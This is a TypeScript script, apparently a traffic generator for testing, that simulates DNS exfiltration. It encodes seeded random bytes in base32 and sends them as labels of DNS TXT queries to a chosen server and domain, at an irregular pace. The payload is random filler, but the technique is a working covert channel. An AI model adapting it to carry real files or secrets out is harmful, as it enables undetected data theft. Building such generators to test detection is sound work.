/**
 * `dns-exfiltration.ts SERVER DOMAIN LOCAL-PORT BYTES SECONDS SEED`: carries so many bytes out in the labels of
 * names it asks for, at an uneven pace over the time given.
 */
import { createSocket } from 'node:dgram';
import { setTimeout as sleep } from 'node:timers/promises';
import { Random } from '../../testing/random.ts';

const dnsPort = 53;
const bytesPerLabel = 35;
const labelsPerName = 3;
const lastAnswerMilliseconds = 800;
const typeText = 16;
const classInternet = 1;
const recursionDesired = 0x0100;
const letters = 'abcdefghijklmnopqrstuvwxyz234567';

const [server = '', domain = '', localPort = '', bytes = '', seconds = '', seed = ''] = process.argv.slice(2);
const random = new Random(Number(seed));

function base32(data: Uint8Array): string {
  let text = '';
  let held = 0;
  let bits = 0;
  for (const byte of data) {
    held = ((held << 8) | byte) & 0xffff;
    bits += 8;
    while (bits >= 5) {
      bits -= 5;
      text += letters[(held >> bits) & 31] ?? '';
    }
  }
  return bits === 0 ? text : text + (letters[(held << (5 - bits)) & 31] ?? '');
}

function question(id: number, labels: readonly string[]): Buffer {
  const head = Buffer.alloc(12);
  head.writeUInt16BE(id, 0);
  head.writeUInt16BE(recursionDesired, 2);
  head.writeUInt16BE(1, 4);
  const name = labels.flatMap(label => [Buffer.from([label.length]), Buffer.from(label, 'latin1')]);
  return Buffer.concat([head, ...name, Buffer.from([0, 0, typeText, 0, classInternet])]);
}

const socket = createSocket('udp4');
socket.on('error', () => undefined);
await new Promise<void>(resolve => {
  socket.bind(Number(localPort), () => resolve());
});
const perName = bytesPerLabel * labelsPerName;
const names = Math.ceil(Number(bytes) / perName);
const pauseMilliseconds = (Number(seconds) * 1000) / names;
for (let index = 0; index < names; index += 1) {
  const data = Array.from({ length: labelsPerName }, () => base32(random.bytes(bytesPerLabel)));
  const labels = [...data, index.toString(36), ...domain.split('.')];
  socket.send(question(random.below(65_536), labels), dnsPort, server);
  await sleep(pauseMilliseconds * (0.5 + random.fraction()));
}
await sleep(lastAnswerMilliseconds);
socket.close();
